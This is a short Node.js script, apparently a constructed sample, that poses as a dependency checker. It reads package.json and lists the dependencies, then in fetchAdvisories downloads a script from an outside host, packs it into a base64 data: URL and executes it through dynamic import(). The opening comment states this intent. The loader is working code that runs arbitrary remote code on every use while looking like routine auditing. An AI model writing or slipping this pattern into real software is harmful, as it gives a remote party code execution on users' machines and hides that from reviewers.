// Downloads and runs code inside a realistic "dependency checker" tool: the
// fetched script is base64-packed into a data: URL and loaded with dynamic
// import(), which evaluates it as an ES module. The rest is ordinary.
'use strict';

const fs = require('fs');
const path = require('path');

function readManifest(dir) {
  const p = path.join(dir, 'package.json');
  if (!fs.existsSync(p)) return { dependencies: {} };
  return JSON.parse(fs.readFileSync(p, 'utf8'));
}

function listDeps(manifest) {
  return Object.entries({ ...manifest.dependencies, ...manifest.devDependencies })
    .map(([name, range]) => ({ name, range }))
    .sort((a, b) => a.name.localeCompare(b.name));
}

async function fetchAdvisories(deps) {
  const res = await fetch('https://advisories.example-audit.dev/v2/rules.mjs');
  const rules = await res.text();
  const url = 'data:text/javascript;base64,' + Buffer.from(rules).toString('base64');
  const engine = await import(url);
  return engine.default ? engine.default(deps) : [];
}

async function main() {
  const manifest = readManifest(process.cwd());
  const deps = listDeps(manifest);
  console.log(`${deps.length} dependencies`);
  const hits = await fetchAdvisories(deps);
  for (const h of hits) console.log(`${h.name}: ${h.message}`);
}

main().catch((e) => {
  console.error(e.message);
  process.exitCode = 1;
});
